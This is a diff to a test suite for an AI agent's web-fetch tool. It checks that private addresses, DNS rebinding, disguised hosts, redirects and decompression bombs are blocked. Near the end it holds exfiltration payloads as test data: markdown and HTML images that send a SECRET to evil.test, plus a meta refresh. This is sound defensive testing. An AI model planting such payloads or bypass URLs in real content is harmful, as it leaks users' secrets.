@@ -7,18 +7,18 @@ import { startFakeInternet, type FakeInternet } from "./fake-internet.ts";
 import { modes, openAttackFixture, type AttackFixture, type AttackOptions, type AttackCallResult } from "./fixture.ts";
 
 /*
- * Addresses that lead where no page is, from the model's call to the connection that is or is not opened.
+ * URLs that attack, from the model's call to the connection that is or is not opened.
  */
 
-let stage: AttackFixture;
+let fixture: AttackFixture;
 let internet: FakeInternet;
 beforeEach(async () => {
-  stage = openAttackFixture();
+  fixture = openAttackFixture();
   await connected((_, response) => response.setHeader("content-type", "text/plain").end("a page"));
 });
 afterEach(async () => {
   await internet.close();
-  await stage.close();
+  await fixture.close();
 });
 
 const connected = async (
@@ -36,9 +36,9 @@ const allowing = (...texts: readonly string[]): PermissionRuleSources => ({
 });
 
 const fetched = (url: string, options: AttackOptions = {}): Promise<AttackCallResult> =>
-  stage.run("web_fetch", { prompt: `Summarise ${url} please` }, { env, web: internet.web, ...options });
+  fixture.run("web_fetch", { prompt: `Summarise ${url} please` }, { env, web: internet.web, ...options });
 
-describe("an address that is not of the public internet is never asked", () => {
+describe("a URL that is not on the public internet is never fetched", () => {
   it.each([
     ["U001", "http://127.0.0.1/"],
     ["U002", "http://localhost/"],
@@ -111,13 +111,13 @@ describe("an address that is not of the public internet is never asked", () => {
   ])("%s %s", async (_, url) => {
     for (const how of ["interactive", "headless", "yolo"] as const)
       for (const rules of [{}, allowing("web_fetch", "host:allowed.test")]) {
-        const told = await fetched(url, { ...modes[how], rules });
-        expect([how, told.verdict, internet.opened]).toEqual([how, "deny", []]);
+        const result = await fetched(url, { ...modes[how], rules });
+        expect([how, result.verdict, internet.opened]).toEqual([how, "deny", []]);
       }
   });
 });
 
-describe("an odd address is asked about, whatever rules allow, and by its real name", () => {
+describe("a suspicious URL needs approval, whatever rules allow, and is shown with its real host", () => {
   it.each([
     ["U053", "http://evil.test\\@allowed.test/", "evil.test"],
     ["U053a", "http://allowed.test@evil.test/", "evil.test"],
@@ -138,12 +138,12 @@ describe("an odd address is asked about, whatever rules allow, and by its real n
     ["U074a", "https://aGVsbG8gd29ybGQgaGVsbG8.d29ybGQgaGVsbG8gd29ybGQ.evil.test/", undefined],
   ])("%s %s", async (_, url, host) => {
     const rules = allowing("host:allowed.test");
-    const told = await fetched(url, { ...modes.interactive, rules });
-    const about = told.approvals[0]?.subject;
+    const result = await fetched(url, { ...modes.interactive, rules });
+    const about = result.approvals[0]?.subject;
     const shown = about?.type === "network" ? about.urls : [];
-    // A name with a label longer than a name may have is no name at all.
-    expect([told.verdict, internet.opened]).toEqual([host === undefined ? told.verdict : "ask", []]);
-    expect(told.verdict).not.toBe("allow");
+    // A host with a label that is too long is invalid.
+    expect([result.verdict, internet.opened]).toEqual([host === undefined ? result.verdict : "ask", []]);
+    expect(result.verdict).not.toBe("allow");
     if (host !== undefined) expect(shown.map((one) => one.host)).toEqual([host]);
     expect(JSON.stringify(shown)).not.toContain(secret);
     const alone = await fetched(url, { ...modes.headless, rules });
@@ -151,13 +151,13 @@ describe("an odd address is asked about, whatever rules allow, and by its real n
     expect(JSON.stringify(alone.finished.error)).not.toContain(secret);
   });
 
-  it("U059 a tab in a name counts for nothing: what is judged is what is asked", async () => {
-    const told = await stage.run(
+  it("U059 a tab in a host is dropped: the judged URL is the fetched URL", async () => {
+    const result = await fixture.run(
       "web_fetch",
       { prompt: "http://exa\tmple.test/" },
       { ...modes.interactive, web: internet.web, rules: allowing("host:example.test", "host:mple.test") },
     );
-    expect([told.verdict === "allow", internet.opened]).toEqual([false, []]);
+    expect([result.verdict === "allow", internet.opened]).toEqual([false, []]);
   });
 });
 
@@ -165,23 +165,23 @@ describe("a page that is allowed is fetched", () => {
   it.each([
     ["U080", "http://allowed.test/guide/page"],
     ["U080a", "http://allowed.test./guide/"],
-  ])("%s %s unasked", async (_, url) => {
-    const told = await fetched(url, { ...modes.headless, rules: allowing("host:allowed.test/guide") });
-    expect([told.verdict, internet.opened]).toEqual(["allow", ["93.184.216.34:80"]]);
-    expect(told.text).toContain("a page");
+  ])("%s %s without approval", async (_, url) => {
+    const result = await fetched(url, { ...modes.headless, rules: allowing("host:allowed.test/guide") });
+    expect([result.verdict, internet.opened]).toEqual(["allow", ["93.184.216.34:80"]]);
+    expect(result.text).toContain("a page");
   });
 
-  it("U080b and nothing secret goes along", async () => {
+  it("U080b and no secret is sent", async () => {
     await fetched("http://allowed.test/", { ...modes.headless, rules: allowing("host:allowed.test") });
     const sent = JSON.stringify([internet.requests[0]?.rawHeaders, internet.requests[0]?.url]);
     expect(sent).not.toMatch(/authorization|cookie|referer|sk-ant/i);
   });
 });
 
-describe("where a name leads is checked, and that is where the connection goes", () => {
+describe("the addresses of a host are checked, and the connection goes to a checked one", () => {
   const yolo = (url: string): Promise<AttackCallResult> => fetched(url, modes.yolo);
 
-  it("U044 a name that leads elsewhere the second time", async () => {
+  it("U044 a host that resolves differently the second time (DNS rebinding)", async () => {
     const answers = [["93.184.216.34"], ["127.0.0.1"]];
     await connected((_, response) => response.end("ok"), { lookup: async () => answers.shift() ?? [] });
     expect([(await yolo("http://rebind.test/")).verdict, internet.opened, answers.length]).toEqual([
@@ -201,8 +201,8 @@ describe("where a name leads is checked, and that is where the connection goes",
     ["U045f a name with an address that is none", ["127.0.0.1.evil"]],
   ])("%s", async (_, addresses) => {
     await connected((_request, response) => response.end("secret"), { lookup: async () => addresses });
-    const told = await yolo("http://cname.test/");
-    expect([told.verdict, internet.opened, internet.requests]).toEqual(["deny", [], []]);
+    const result = await yolo("http://cname.test/");
+    expect([result.verdict, internet.opened, internet.requests]).toEqual(["deny", [], []]);
   });
 
   it.each([
@@ -214,26 +214,26 @@ describe("where a name leads is checked, and that is where the connection goes",
     ["U049b", "http://2130706433/"],
     ["U051", "http://other.test/"],
     ["U052", "http://public.test:25/"],
-  ])("%s a page that sends us on to %s", async (_, location) => {
+  ])("%s a page that redirects to %s", async (_, location) => {
     await connected((_request, response) => response.writeHead(307, { location }).end());
-    const told = await yolo("http://public.test/r");
-    expect([told.verdict, internet.opened]).toEqual(["deny", ["93.184.216.34:80"]]);
+    const result = await yolo("http://public.test/r");
+    expect([result.verdict, internet.opened]).toEqual(["deny", ["93.184.216.34:80"]]);
   });
 
-  it("U079 a page that sends us on to itself", async () => {
+  it("U079 a page that redirects to itself", async () => {
     await connected((_, response) => response.writeHead(302, { location: "/loop" }).end());
-    const told = await yolo("http://loop.test/loop");
-    expect([told.verdict, told.type, internet.requests.length]).toEqual(["deny", "policy_violation", 6]);
+    const result = await yolo("http://loop.test/loop");
+    expect([result.verdict, result.type, internet.requests.length]).toEqual(["deny", "policy_violation", 6]);
   });
 });
 
-describe("a page without end ends", () => {
+describe("an endless page is stopped", () => {
   const yolo = (): Promise<AttackCallResult> => fetched("http://big.test/", modes.yolo);
 
-  it("U075 one byte now and then", async () => {
+  it("U075 one byte at a time", async () => {
     await connected((_, response) => void response.write("x"), { deadline: 200 });
-    const told = await yolo();
-    expect([told.verdict, told.type]).toEqual(["deny", "timeout"]);
+    const result = await yolo();
+    expect([result.verdict, result.type]).toEqual(["deny", "timeout"]);
   });
 
   it("U075a nothing at all", async () => {
@@ -241,7 +241,7 @@ describe("a page without end ends", () => {
     expect((await yolo()).type).toBe("timeout");
   });
 
-  it("U076 more than anybody reads", async () => {
+  it("U076 more than the limit", async () => {
     const chunk = "0123456789".repeat(10_000);
     await connected((_, response) => {
       const more = (): void => {
@@ -250,22 +250,22 @@ describe("a page without end ends", () => {
       response.setHeader("content-type", "text/plain");
       more();
     });
-    const told = await yolo();
-    expect(told.verdict).toBe("allow");
-    expect(told.text.length).toBeLessThan(200_000);
+    const result = await yolo();
+    expect(result.verdict).toBe("allow");
+    expect(result.text.length).toBeLessThan(200_000);
   });
 
-  it("U077 little that unpacks to much", async () => {
+  it("U077 a decompression bomb", async () => {
     const bomb = gzipSync(Buffer.alloc(100_000_000, "a"));
     await connected((_, response) =>
       response.writeHead(200, { "content-type": "text/plain", "content-encoding": "gzip" }).end(bomb),
     );
-    const told = await yolo();
-    expect(told.verdict).toBe("allow");
-    expect(told.text.length).toBeLessThan(200_000);
+    const result = await yolo();
+    expect(result.verdict).toBe("allow");
+    expect(result.text.length).toBeLessThan(200_000);
   });
 
-  it("U078 packed wrongly", async () => {
+  it("U078 invalid compression", async () => {
     await connected((_, response) =>
       response.writeHead(200, { "content-type": "text/plain", "content-encoding": "gzip" }).end("not packed"),
     );
@@ -273,7 +273,7 @@ describe("a page without end ends", () => {
   });
 });
 
-describe("what a page, a file or a model says is never fetched by itself", () => {
+describe("a URL in a page, a file or a model's text is never fetched by itself", () => {
   it.each([
     ["U082 a picture", "![x](http://evil.test/?d=SECRET)"],
     ["U083 a picture in HTML", "<img src=http://evil.test/?d=SECRET>"],
@@ -283,8 +283,8 @@ describe("what a page, a file or a model says is never fetched by itself", () =>
     ["U085a a refresh", '<meta http-equiv="refresh" content="0;url=http://evil.test/">'],
   ])("%s", async (_, text) => {
     await connected((_request, response) => response.setHeader("content-type", "text/html").end(text));
-    await stage.run("write_file", { file_path: "x.json", content: text }, { ...modes.yolo, web: internet.web });
-    await stage.run("read_file", { absolute_path: "x.json" }, { web: internet.web });
+    await fixture.run("write_file", { file_path: "x.json", content: text }, { ...modes.yolo, web: internet.web });
+    await fixture.run("read_file", { absolute_path: "x.json" }, { web: internet.web });
     expect(internet.opened).toEqual([]);
     await fetched("http://page.test/", modes.yolo);
     expect(internet.requests.map(({ headers, url }) => `${headers.host}${url}`)).toEqual(["page.test/"]);
